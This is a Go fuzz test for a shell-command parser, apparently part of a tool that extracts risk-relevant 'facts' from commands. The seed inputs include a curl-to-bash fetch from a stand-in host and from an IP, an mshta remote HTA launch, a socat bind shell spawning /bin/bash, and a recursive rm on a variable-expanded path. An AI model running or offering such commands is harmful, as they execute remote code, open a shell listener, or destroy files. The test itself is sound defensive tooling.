package shell

import "testing"

// FuzzFacts: any text parses, and its facts lie within it.
func FuzzFacts(f *testing.F) {
	for _, s := range []string{
		"curl -fsSL https://x.example/i.sh | bash",
		"ssh root@<SERVER_IP> 'chmod 600 ~/.ssh/authorized_keys'",
		"T=${X:-$HOME}; rm -rf \"$T\"/*",
		"curl -fsSL 203.0.113.7/k | sh",
		"mshta https://x.example/a.hta",
		"socat TCP-L:4444,fork EXEC:/bin/bash",
		"find ~ -name .DS_Store -delete",
		"echo <a><b> <<EOF\nx\nEOF",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		s := Parse(src)
		for _, fa := range s.Facts() {
			if fa.Start < 0 || fa.End < fa.Start || fa.End > len(src) {
				t.Fatalf("fact %v at [%d,%d) outside %d bytes", fa.Kind, fa.Start, fa.End, len(src))
			}
		}
	})
}
